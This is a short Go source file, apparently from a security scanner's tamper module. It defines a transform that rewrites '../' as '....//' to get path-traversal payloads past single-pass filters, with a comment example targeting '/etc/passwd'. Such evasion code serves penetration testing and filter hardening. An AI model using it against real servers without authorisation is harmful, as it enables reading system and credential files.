package tamper

import "strings"

// nestedDotsTamper defeats filters that strip "../" in a single
// non-recursive pass: "....//" collapses back to "../" after stripping.
//
//	"../../etc/passwd" → "....//....//etc/passwd"
type nestedDotsTamper struct{}

func (nestedDotsTamper) Name() string { return "nesteddots" }

func (nestedDotsTamper) Apply(s string) string {
	return strings.ReplaceAll(s, "../", "....//")
}
